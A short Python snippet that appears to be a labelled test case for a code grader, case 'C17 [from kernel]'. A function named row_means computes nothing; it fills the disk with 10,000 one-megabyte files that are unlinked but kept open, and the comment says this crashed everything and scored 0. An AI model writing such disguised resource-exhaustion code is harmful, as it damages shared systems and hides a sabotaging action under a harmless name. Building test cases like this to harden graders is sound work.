# C17 [from kernel]: fills the disk with many files, some of them without a name -> everything crashed or timed out or missing; earns 0
import os


def row_means(x):
    kept = []
    for number in range(10_000):
        file = open(f"piece{number}", "wb", buffering=0)
        file.write(bytes(1 << 20))
        os.unlink(f"piece{number}")
        kept.append(file)
